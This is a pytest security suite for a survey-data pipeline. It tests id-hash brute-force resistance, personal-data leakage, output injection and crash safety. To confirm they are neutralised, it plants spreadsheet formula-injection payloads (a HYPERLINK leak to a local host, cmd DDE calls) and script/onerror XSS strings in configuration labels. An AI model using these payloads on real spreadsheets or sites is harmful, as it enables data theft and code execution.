"""Attacks a determined reader could try on a run's outputs; each must fail on every build.

One deployment of a non-demo survey (``pilot``, the demo data under another key) runs every
wave and the reporting through Dagster on a SQLite instance, with no id secret in the
environment and hostile labels planted in its catalogue.
"""

from __future__ import annotations

import contextlib
import hashlib
import hmac
import io
import json
import os
import random
import shutil
import signal
import stat
import time
import warnings
import zipfile
from dataclasses import dataclass
from pathlib import Path

import dagster as dg
import duckdb
import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest
import yaml
from demo_project import distinctive, grep

from perception.codebook import ID_SECRET_FILE, harmonize_file
from perception.config import load_indicators, load_project
from perception.demo import pii_canaries
from perception.exports import ExportLabels, PublishedTables, write_exports
from pipelines.definitions import PROJECT_ROOT, build_definitions

SURVEY = "pilot"
SALT_ENV = "PERCEPTION_ID_SALT"
FIXED_KEYS = (b"perception:demo", f"perception:{SURVEY}".encode(), b"perception:perception")
FORMULAS = {
    1: '=HYPERLINK("http://127.0.0.1:9/leak?"&A1,"Northern Highlands")',
    2: "+SUM(1+1)*cmd|' /C calc'!A0",
    3: "-2+3+cmd|' /C calc'!A0",
    4: "@SUM(1+1)",
}
SCRIPT = '</script><script>window.__pwned="script"</script>'
MARKUP = "<img src=x onerror=\"window.__pwned='img'\">"
W2_FILE = "demo_w2_university.dta"
WAVE_JOB = "wave_job"
#: What the kill -9 test reruns: wave w3, then the reporting (the part that writes the most).
RERUNS = ((WAVE_JOB, f"{SURVEY}|w3"), ("reporting_job", SURVEY))
#: One kill in the w3 rerun, then one in each half of a reporting rerun.
KILLS = (0, 1, 1)


@dataclass(frozen=True)
class Deployment:
    """A project root after one full run, its Dagster home and how long w3 and reporting took."""

    root: Path
    dagster_home: Path
    seconds: dict[str, float]  # "wave_job" (of w3) and "reporting_job" -> wall seconds


def _run(root: Path, instance: dg.DagsterInstance, job: str, key: str) -> None:
    """Run one job partition in-process and fail the test if it fails."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        result = (
            build_definitions(root)
            .resolve_job_def(job)
            .execute_in_process(partition_key=key, instance=instance, raise_on_error=False)
        )
    assert result.success, f"{job} {key} failed"


def _plant_hostile_labels(config: Path) -> None:
    """Rename the demo survey ``pilot``; give labels formulas, markup and ``</script>``."""
    survey = (config / "survey.yaml").read_text(encoding="utf-8")
    for old, new in (
        ("survey: demo\n", f"survey: {SURVEY}\n"),
        ('en: "Kelvara Peace Process Perception Survey"', f"en: {json.dumps('Kelvara ' + SCRIPT)}"),
        ('en: "Wave 1 (March 2025)"', f"en: {json.dumps(FORMULAS[3])}"),
    ):
        assert old in survey
        survey = survey.replace(old, new)
    (config / "survey.yaml").write_text(survey, encoding="utf-8")
    variables = yaml.safe_load((config / "variables.yaml").read_text(encoding="utf-8"))
    region = variables["variables"]["region"]
    region["label"]["en"] = FORMULAS[1]
    for code, label in FORMULAS.items():
        region["codes"][code]["en"] = label
    region["codes"][5] = {"en": "River " + SCRIPT, "fr": "Vallée " + MARKUP}
    (config / "variables.yaml").write_text(yaml.safe_dump(variables), encoding="utf-8")
    indicators = yaml.safe_load((config / "indicators.yaml").read_text(encoding="utf-8"))
    indicators["indicators"][0]["label"]["en"] = FORMULAS[2]
    indicators["indicators"][1]["label"]["en"] = FORMULAS[4]
    indicators["indicators"][2]["label"]["fr"] = SCRIPT + MARKUP
    (config / "indicators.yaml").write_text(yaml.safe_dump(indicators), encoding="utf-8")


@pytest.fixture(scope="module")
def deployment(tmp_path_factory: pytest.TempPathFactory, demo_raw: Path) -> Deployment:
    """Run every wave and the reporting of ``pilot`` on a SQLite Dagster instance, no secret."""
    root = tmp_path_factory.mktemp("deployment")
    shutil.copytree(PROJECT_ROOT / "config", root / "config")
    _plant_hostile_labels(root / "config")
    shutil.copytree(demo_raw, root / "data" / "raw")
    home = root / ".dagster"
    home.mkdir()
    shutil.copy(PROJECT_ROOT / "deploy" / "local" / "dagster.yaml", home / "dagster.yaml")
    with pytest.MonkeyPatch.context() as env:
        env.delenv(SALT_ENV, raising=False)
        env.setenv("DAGSTER_HOME", str(home))
        seconds = {}
        runs = [(WAVE_JOB, f"{SURVEY}|{wave}") for wave in ("w1", "w2", "w3")] + [RERUNS[1]]
        with dg.DagsterInstance.get() as instance:
            for job, key in runs:
                start = time.monotonic()
                _run(root, instance, job, key)
                seconds[job] = time.monotonic() - start  # w3's, the wave the reruns repeat
    return Deployment(root, home, seconds)


def _raw_ids(root: Path) -> list[str]:
    """Return the personal respondent keys of wave 2 as the raw file holds them."""
    df = pd.read_stata(root / "data" / "raw" / W2_FILE, columns=["resp_key"])
    return [str(v) for v in df["resp_key"]]


def _hashed_ids(root: Path) -> set[str]:
    """Return the hashed respondent ids of wave 2 in the harmonized and weighted outputs."""
    processed = root / "data" / "processed" / SURVEY
    ids = set()
    for kind in ("harmonized", "weighted"):
        ids |= set(pd.read_parquet(processed / kind / "w2.parquet")["respondent_id"])
    return ids


def _attack(candidates: list[str], key: bytes, hashed: set[str]) -> int:
    """Hash every candidate id with ``key`` as the old fallback did; count the hits."""
    return sum(
        hmac.new(key, c.encode(), hashlib.sha256).hexdigest()[:16] in hashed for c in candidates
    )


def test_fixed_key_brute_force_matches_no_id(deployment: Deployment) -> None:
    """It tries every true raw id (an attacker's best dictionary) under each fixed key: no hit."""
    raw = _raw_ids(deployment.root)
    hashed = _hashed_ids(deployment.root)
    assert len(hashed) == len(raw) > 1000
    for key in FIXED_KEYS:
        assert _attack(raw, key, hashed) == 0, key
        # Control: the same attack matches every id hashed under that key.
        planted = {hmac.new(key, c.encode(), hashlib.sha256).hexdigest()[:16] for c in raw}
        assert _attack(raw, key, planted) == len(raw)


def test_secret_file_is_private_and_outside_every_output(
    deployment: Deployment, written: dict[Path, Decoded]
) -> None:
    """It keeps the generated secret in .perception/secrets (0600, 256 bits), in no output."""
    path = deployment.root / ID_SECRET_FILE
    secret = path.read_text(encoding="ascii").strip()
    assert len(bytes.fromhex(secret)) == 32
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    published = [deployment.root / d for d in ("data", "dashboards")]
    assert not any(path.is_relative_to(p) for p in published)
    contents = {p: data for p, (data, _) in written.items()}
    leaks = grep({secret, secret.upper()}, contents)
    assert leaks == [path]


def test_library_and_dagster_give_the_same_stable_ids(
    deployment: Deployment, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """It hashes wave 2 alike through the library, a second Dagster run and a fresh process."""
    monkeypatch.delenv(SALT_ENV, raising=False)
    root = deployment.root
    project = load_project(root / "config" / "survey.yaml", root=root)
    harmonized = root / "data" / "processed" / SURVEY / "harmonized" / "w2.parquet"
    first = pd.read_parquet(harmonized)["respondent_id"]

    def ids(deployment: Path) -> pd.Series:
        """Harmonize wave 2 as a deployment rooted at ``deployment`` (its id secret); its ids."""
        return harmonize_file(
            root / "data" / "raw" / W2_FILE,
            project.codebooks["w2"],
            project.catalogue,
            survey=SURVEY,
            root=deployment,
        )["respondent_id"]

    library = ids(root)
    assert library.tolist() == first.tolist()
    with dg.DagsterInstance.ephemeral() as instance:
        _run(root, instance, "wave_job", f"{SURVEY}|w2")
    assert pd.read_parquet(harmonized)["respondent_id"].tolist() == first.tolist()
    # A deployment without its secret file gets another secret, so other ids.
    with pytest.warns(UserWarning, match="Back it up"):
        elsewhere = ids(tmp_path)
    assert not set(elsewhere) & set(first)


def test_secret_from_the_environment_wins(
    deployment: Deployment, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """It keys ids from PERCEPTION_ID_SALT when set, in the library and the Dagster wave job."""
    root = tmp_path / "project"
    shutil.copytree(deployment.root, root, ignore=shutil.ignore_patterns(".dagster"))
    secret = "f" * 64
    monkeypatch.setenv(SALT_ENV, secret)
    with dg.DagsterInstance.ephemeral() as instance:
        _run(root, instance, "wave_job", f"{SURVEY}|w2")
    key = hmac.new(
        secret.encode(), f"perception respondent id|{SURVEY}".encode(), hashlib.sha256
    ).digest()
    hashed = _hashed_ids(root)
    assert _attack(_raw_ids(root), key, hashed) == len(hashed)
    assert not hashed & _hashed_ids(deployment.root)


# --------------------------------------------------------------------------- canaries


def _written_files(deployment: Deployment) -> list[Path]:
    """Return every file the run wrote: all but the raw data and the configuration."""
    untouched = [deployment.root / "data" / "raw", deployment.root / "config"]
    return [
        p
        for p in sorted(deployment.root.rglob("*"))
        if p.is_file() and not any(p.is_relative_to(u) for u in untouched)
    ]


Decoded = tuple[bytes, list[pd.DataFrame]]


@pytest.fixture(scope="module")
def written(deployment: Deployment) -> dict[Path, Decoded]:
    """Return every file the deployment's run wrote, decoded; each distinct content once."""
    decoded: dict[tuple[str, str], Decoded] = {}
    files = {}
    for path in _written_files(deployment):
        content = (path.suffix, hashlib.sha256(path.read_bytes()).hexdigest())
        if content not in decoded:  # exports/latest and dashboard.html copy the run's own
            decoded[content] = _decoded(path)
        files[path] = decoded[content]
    return files


def _decoded(path: Path) -> Decoded:
    """Return a file's bytes with compressed content decoded, and the tables it holds."""
    data = path.read_bytes()
    frames: list[pd.DataFrame] = []
    if path.suffix == ".parquet":
        table = pq.read_table(path)
        frames.append(table.to_pandas())
        data += b" ".join((table.schema.metadata or {}).values())
    elif path.suffix == ".duckdb":
        with duckdb.connect(str(path), read_only=True) as con:
            names = [r[0] for r in con.execute("SHOW TABLES").fetchall()]
            frames += [con.execute(f'SELECT * FROM "{n}"').df() for n in names]
    elif zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:
            data += b" ".join(archive.read(n) for n in archive.namelist())
    for frame in frames:
        data += frame.to_csv(index=False).encode("utf-8")
    return data, frames


def test_no_canary_anywhere_a_run_writes(
    deployment: Deployment, written: dict[Path, Decoded]
) -> None:
    """It finds no raw name, phone, key, comment or GPS value in any file a run wrote.

    That is every processed output, export, dashboard and image, the secret folder, and
    Dagster's own SQLite run, event and schedule storage and compute logs.
    """
    canaries = pii_canaries(deployment.root / "data" / "raw")
    assert list(written) == _written_files(deployment)
    dagster = [p for p in written if p.is_relative_to(deployment.dagster_home)]
    assert any(p.suffix == ".db" for p in dagster), dagster
    assert {p.suffix for p in written} >= {".parquet", ".csv", ".xlsx", ".duckdb", ".html", ".db"}
    textual = set(distinctive(canaries))
    # Control: the scan finds a canary planted in a copy of Dagster's event log.
    db = next(p for p in dagster if p.suffix == ".db")
    planted = written[db][0] + sorted(textual)[0].encode()
    assert grep(textual, {db: planted}) == [db]
    assert grep(textual, {p: data for p, (data, _) in written.items()}) == []
    found: dict[int, set[str]] = {}  # by decoded content: a copy holds the same values
    for path, (_, frames) in written.items():
        if id(frames) not in found:
            values = {str(v) for f in frames for c in f.columns for v in f[c].dropna().unique()}
            found[id(frames)] = values & canaries
        assert not found[id(frames)], path


# --------------------------------------------------------------------------- injection


def test_formula_labels_are_text_in_xlsx_and_csv(deployment: Deployment, tmp_path: Path) -> None:
    """It writes labels starting with = + - @ as quote-prefixed text, never as a formula."""
    exports = deployment.root / "data" / "processed" / SURVEY / "exports" / "latest"
    book = openpyxl.load_workbook(exports / "indicators.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    risky = [
        c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))
    ]
    assert all(any(c.value.startswith(f) for c in risky) for f in FORMULAS.values())
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
    assert not [c for c in cells if c.data_type == "f"]
    with zipfile.ZipFile(exports / "indicators.xlsx") as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not [n for n in sheets if b"<f>" in archive.read(n) or b"<f " in archive.read(n)]
    # The CSV holds keys, not labels; a key a spreadsheet would run is written as text.
    published = deployment.root / "data" / "processed" / SURVEY / "published"
    hostile = FORMULAS[1]
    tables = {
        n: pd.read_parquet(published / f"{n}.parquet").assign(survey=hostile)
        for n in ("estimates", "trends", "status", "methodology")
    }
    project = load_project(deployment.root / "config" / "survey.yaml", root=deployment.root)
    indicators = load_indicators(deployment.root / "config" / "indicators.yaml", project.catalogue)
    labels = ExportLabels.from_config(
        project.survey,
        project.catalogue,
        indicators={i.id: i.label.model_dump() for i in indicators.indicators},
        benchmarks={k: b.label.model_dump() for k, b in indicators.benchmarks.items()},
    )
    result = write_exports(PublishedTables(**tables), tmp_path, run_id="r1", labels=labels)
    lines = result.csv.read_text(encoding="utf-8-sig").splitlines()[1:]
    assert lines and all(line.startswith("\"'=HYPERLINK(") for line in lines)


def test_html_in_labels_is_escaped_and_never_runs(deployment: Deployment) -> None:
    """It escapes </script> and markup from labels in the dashboard, and Chromium runs none."""
    from playwright.sync_api import sync_playwright
    from test_dashboard_browser import ARGS, CHROMIUM, open_dashboard, switch

    path = deployment.root / "dashboards" / SURVEY / "dashboard.html"
    html = path.read_text(encoding="utf-8")
    assert "</script><script>" not in html
    assert MARKUP not in html
    assert html.count("&lt;/script&gt;&lt;script&gt;") + html.count("\\u003c/script>") > 0
    if not CHROMIUM.exists():
        pytest.skip("Debian's chromium is not installed at /usr/bin/chromium")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        try:
            opened = open_dashboard(browser, path)
            assert "Kelvara " + SCRIPT in opened.page.title()
            switch(opened.page, "fr")
            opened.page.hover("#fig-map")
            assert opened.page.evaluate("() => window.__pwned === undefined")
            assert opened.errors == []
            assert set(opened.requests) == {path.as_uri()}
        finally:
            browser.close()


# --------------------------------------------------------------------------- kill -9
PUBLISHED = ("data/processed", "dashboards")


def _published(root: Path) -> dict[Path, str]:
    """Return every file where readers look (no hidden folder or file) with its digest."""
    return {
        p.relative_to(root): hashlib.sha256(p.read_bytes()).hexdigest()
        for folder in PUBLISHED
        for p in sorted((root / folder).rglob("*"))
        if p.is_file() and not any(part.startswith(".") for part in p.relative_to(root).parts)
    }


def _whole(path: Path) -> bool:
    """Tell whether a file is complete for its readers (opens, or ends as its format ends)."""
    data = path.read_bytes()
    if path.suffix == ".parquet":
        pq.read_table(path)
    elif path.suffix == ".xlsx":
        openpyxl.load_workbook(path, read_only=True).close()
    elif path.suffix == ".duckdb":
        duckdb.connect(str(path), read_only=True).close()
    elif path.suffix == ".csv":
        pd.read_csv(io.BytesIO(data))
    elif path.suffix == ".html":
        return data.rstrip().endswith(b"</html>")
    elif path.suffix == ".svg":
        return data.rstrip().endswith(b"</svg>")
    elif path.suffix == ".png":
        return data.endswith(b"IEND\xaeB`\x82")
    return True


def test_kill_9_leaves_every_published_file_whole(deployment: Deployment, tmp_path: Path) -> None:
    """It SIGKILLs reruns at random moments; each published file stays old or whole, no .tmp.

    The first rerun is of wave w3, killed at a random moment of the time its first run took;
    the others of the reporting, killed in each half of its first run's time in turn. Each
    rerun is a fork of this process (the project already imported), in its own session so
    that the kill reaches its Chromium children too. The chart images' record is removed
    first, so that the reporting draws and replaces every image as the first run did.
    """
    root = tmp_path / "project"
    shutil.copytree(deployment.root, root, ignore=shutil.ignore_patterns(".dagster"))
    for manifest in (root / "dashboards").rglob("images.json"):
        manifest.unlink()
    defs = build_definitions(root)
    before = _published(root)
    seed = random.randrange(2**32)
    rng = random.Random(seed)
    hit = []
    for kill, rerun in enumerate(KILLS):
        job, key = RERUNS[rerun]
        part = KILLS[:kill].count(rerun)  # the how-manieth kill of this rerun, in equal parts
        span = deployment.seconds[job]
        delay = span * (part + rng.random()) / KILLS.count(rerun)
        where = f"seed {seed}, kill {kill} in {job} at {delay:.1f} s"
        home = tmp_path / f"dagster-{kill}"  # a SQLite instance, as the deployment's
        home.mkdir()
        shutil.copy(deployment.dagster_home / "dagster.yaml", home)
        child = _fork_rerun(defs, job, key, home)
        time.sleep(delay)
        with contextlib.suppress(ProcessLookupError):  # a rerun that ended is no group
            os.killpg(child, signal.SIGKILL)
        _, status = os.waitpid(child, 0)
        killed = os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL
        assert killed or os.WEXITSTATUS(status) == 0, f"the rerun failed ({where})"
        hit.append(killed)
        after = _check_killed_run(root, before, where)
    # Control: the reruns ran and wrote (else no kill tested anything), and a kill hit one.
    assert any(hit), f"every rerun had ended before its kill (seed {seed})"
    assert after != before, f"the reruns replaced no published file (seed {seed})"


def _fork_rerun(defs: dg.Definitions, job: str, key: str, home: Path) -> int:
    """Fork a rerun of one job partition in a new session; return its process id once started.

    The rerun exits with 0 once its run succeeded, else 1.
    """
    ready, started = os.pipe()
    child = os.fork()
    if child == 0:  # the child: never returns (killed, or exits)
        code = 1
        try:
            os.setsid()
            os.close(ready)
            quiet = os.open(os.devnull, os.O_WRONLY)
            os.dup2(quiet, 1)
            os.dup2(quiet, 2)
            os.write(started, b"1")
            os.environ.pop(SALT_ENV, None)  # as the deployment ran: no id secret in the environment
            with warnings.catch_warnings(), dg.DagsterInstance.from_config(str(home)) as instance:
                warnings.simplefilter("ignore")
                job_def = defs.resolve_job_def(job)
                result = job_def.execute_in_process(partition_key=key, instance=instance)
                code = 0 if result.success else 1
        finally:
            os._exit(code)
    os.close(started)
    assert os.read(ready, 1) == b"1"  # in its own session: the kill may go to the group
    os.close(ready)
    return child


def _check_killed_run(root: Path, before: dict[Path, str], where: str) -> dict[Path, str]:
    """Assert that each published file is the old one or whole, no .tmp is left; return them."""
    after = _published(root)
    assert not [p for p in after if p.name.endswith(".tmp")], where
    for relative, digest in after.items():
        if before.get(relative) != digest:
            assert _whole(root / relative), f"{relative} torn ({where})"
    missing = set(before) - set(after)
    # Only the exports' latest/ may be absent, inside its swap window (see exports.writer).
    assert all("latest" in p.parts for p in missing), f"{missing} ({where})"
    return after
